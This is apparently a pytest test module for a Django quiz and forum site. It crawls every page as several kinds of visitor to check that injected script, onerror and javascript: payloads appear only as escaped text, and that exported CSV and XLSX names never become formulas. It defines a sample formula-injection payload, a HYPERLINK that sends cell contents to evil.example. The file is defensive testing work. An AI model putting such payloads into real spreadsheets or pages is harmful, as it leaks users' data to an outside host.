"""Markdown/HTML injection: every text a person types (names, titles, notes, posts, comments, questions from an
import, nicknames) carries ``<script>``, an ``onerror`` image and a ``javascript:`` link. A crawler then follows
the site's own links as each kind of visitor and reads every HTML page and fragment it reaches: the payload
may appear only as text, never as a tag, an event handler or a script link.
"""

from __future__ import annotations

import html
from html.parser import HTMLParser
from urllib.parse import urldefrag, urljoin, urlsplit

import pytest
from django.urls import reverse

from .world import PAYLOAD, SHORT_PAYLOAD

URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"})
NOT_CRAWLED = ("/admin/", "/accounts/logout", "/i18n/", "/static/")
PAGES_PER_VISITOR = 150


class Scanner(HTMLParser):
    """Collects every place where a payload became markup instead of text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[str] = []
        self.script = False

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            self.script = True
        if tag == "img" and values.get("src") == "x":
            self.problems.append("an injected <img src=x>")
        for name, value in values.items():
            if name.startswith("on") and "alert(1)" in value:
                self.problems.append(f"an injected {name}= handler on <{tag}>")
            squeezed = "".join(value.split()).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith("javascript:"):
                self.problems.append(f"a javascript: {name} on <{tag}>")
        if tag == "a" and values.get("href"):
            self.links.append(values["href"])

    def handle_endtag(self, tag):
        if tag == "script":
            self.script = False

    def handle_data(self, data):
        # json_script writes "<" as \u003C, so an escaped payload never looks like this inside a <script>.
        if self.script and (data.strip() == "alert(1)" or "<img src=x" in data):
            self.problems.append("the payload's script runs")


def scan(body: str) -> Scanner:
    scanner = Scanner()
    scanner.feed(body)
    scanner.close()
    return scanner


def crawl(client, starts: list[str]) -> dict[str, str]:
    """GET every same-site page reachable from ``starts`` (breadth first, bounded); return url → HTML."""
    pages, queue, seen = {}, list(starts), set()
    while queue and len(seen) < PAGES_PER_VISITOR:
        url = urldefrag(queue.pop(0))[0]
        if url in seen or url.startswith(NOT_CRAWLED) or not url.startswith("/"):
            continue
        seen.add(url)
        response = client.get(url)
        assert response.status_code < 500, url
        if response.streaming or "html" not in response.get("Content-Type", ""):
            continue
        body = response.content.decode()
        scanner = scan(body)
        assert not scanner.problems, f"{url}: {scanner.problems}"
        pages[url] = body
        for link in scanner.links:
            target = urljoin(url, link)
            parts = urlsplit(target)
            if not parts.netloc or parts.netloc == "testserver":
                queue.append(parts.path + (f"?{parts.query}" if parts.query else ""))
    return pages


def starts_for(world, role: str) -> list[str]:
    objects = world.objects
    common = [
        "/",
        reverse("event_detail", args=[objects["quiz_event"].slug]),
        reverse("forum_topics", args=[objects["forum"].slug]),
        reverse("forum_topic", args=[objects["topic"].pk]),
        reverse("forum_post_fragment", args=[objects["post"].pk]),
        reverse("event_results", args=[objects["results_event"].slug]),
        reverse("certificate_verify", args=[objects["certificate"].code]),
        reverse("round_board", args=[objects["results_round"].pk]),
        reverse("embed_board", args=[objects["results_round"].pk]),
        reverse("reading_gallery", args=[objects["reading_round"].round_id]),
        reverse("practice_question", args=[objects["public_bank"].slug]),
    ]
    own = {
        "victim": [
            "/profile/",
            reverse("attempt_result", args=[objects["attempt"].pk]),
            reverse("reading_entry", args=[objects["entry"].pk]),
        ],
        "organiser": [
            "/organiser/",
            reverse("organiser_bank", args=[objects["bank"].pk]),
            reverse("organiser_question", args=[objects["question"].pk]),
            reverse("organiser_quiz", args=[objects["quiz"].pk]),
            reverse("organiser_reading_entries", args=[objects["reading_round"].round_id]),
            reverse("organiser_reading_entry", args=[objects["entry"].pk]),
            reverse("organiser_judging_entry", args=[objects["entry"].pk]),
            reverse("organiser_judging_progress", args=[objects["reading_round"].round_id]),
            reverse("forum_moderation", args=[objects["forum"].slug]),
            reverse("live_host", args=[objects["live_session"].pk]),
            reverse("organiser_results", args=[objects["results_event"].pk]),
            reverse("organiser_organisation", args=[objects["organisation"].slug]),
        ],
        "judge": [reverse("judging_queue", args=[objects["reading_round"].round_id])],
    }
    return common + own.get(role, [])


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["anonymous", "attacker", "victim", "organiser", "judge"])
def test_injected_text_is_shown_as_text_on_every_page(client, world, role):
    if role != "anonymous":
        client.force_login(world.users[role])
    pages = crawl(client, starts_for(world, role))
    shown = "\n".join(html.unescape(body) for body in pages.values())
    seen = {label for label in EXPECTED_AS_TEXT[role] if f"{label}{PAYLOAD}"[:60] in shown}
    assert seen == set(EXPECTED_AS_TEXT[role]), "the crawl reached the pages that show these texts"


# Texts that each visitor's crawl must have met, escaped (so the check above did look at them).
EXPECTED_AS_TEXT = {
    "anonymous": ["Cuộc thi ", "Chủ đề ", "Kết quả "],
    "attacker": ["Cuộc thi ", "Chủ đề ", "Kết quả "],
    "victim": ["Cuộc thi ", "Chủ đề ", "Bài ", "Kết quả "],
    "organiser": ["Cuộc thi ", "Bài ", "Câu ", "Ngân hàng ", "Tài liệu ", "Diễn đàn "],
    "judge": ["Bài "],
}


@pytest.mark.django_db
def test_an_imported_question_file_is_previewed_as_text(client, world):
    """The import preview shows a file's questions before anything is saved: the file is the attacker."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    gift = f"::{PAYLOAD}::{PAYLOAD} {{={PAYLOAD} ~Sai}}\n".encode()
    client.force_login(world.users["organiser"])
    response = client.post(
        reverse("organiser_bank_import", args=[world.objects["bank"].pk]),
        {"file": SimpleUploadedFile("q.gift", gift)},
    )
    body = response.content.decode()
    assert response.status_code == 200 and not scan(body).problems
    assert "&lt;script&gt;" in body


@pytest.mark.django_db
def test_nicknames_reach_the_host_only_as_data(client, world):
    """Nicknames are drawn by the projector's script from JSON with textContent; the pages that list them on
    the server (the host's exports) are files, and the host page itself carries them nowhere as markup."""
    client.force_login(world.users["organiser"])
    body = client.get(reverse("live_host", args=[world.objects["live_session"].pk])).content.decode()
    assert SHORT_PAYLOAD not in body and not scan(body).problems


# --- Formulas in the organisers' spreadsheets ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _cells(response) -> list:
    """Every cell of an exported XLSX or CSV, as the spreadsheet program would take it."""
    import csv
    import io

    from openpyxl import load_workbook

    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _is_formula(cell) -> bool:
    if isinstance(cell, str):  # CSV: Excel runs a cell that starts with one of these
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return cell.data_type == "f"


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["live_results_csv", "live_results_xlsx", "event_report_xlsx", "event_results_csv"])
def test_names_never_become_formulas_in_exports(client, world, export):
    """A nickname or a full name typed as a formula must reach the organiser's spreadsheet as text."""
    from contests.models import Profile
    from leaderboard.models import ResultRow
    from live.models import LivePlayer

    LivePlayer.objects.filter(session=world.objects["live_session"]).update(nickname="=1+2")
    Profile.objects.filter(user=world.users["victim"]).update(full_name=FORMULA)
    ResultRow.objects.filter(user=world.users["victim"]).update(full_name=FORMULA)
    target = world.objects["live_session"].pk if export.startswith("live") else world.objects["results_event"].pk
    client.force_login(world.users["organiser"])
    response = client.get(reverse(export, args=[target]))
    assert response.status_code == 200
    cells = _cells(response)
    texts = [cell if isinstance(cell, str) else str(cell.value) for cell in cells]
    assert any("1+2" in text or "HYPERLINK" in text for text in texts), "the name is in the export"
    assert not [cell for cell in cells if _is_formula(cell)]
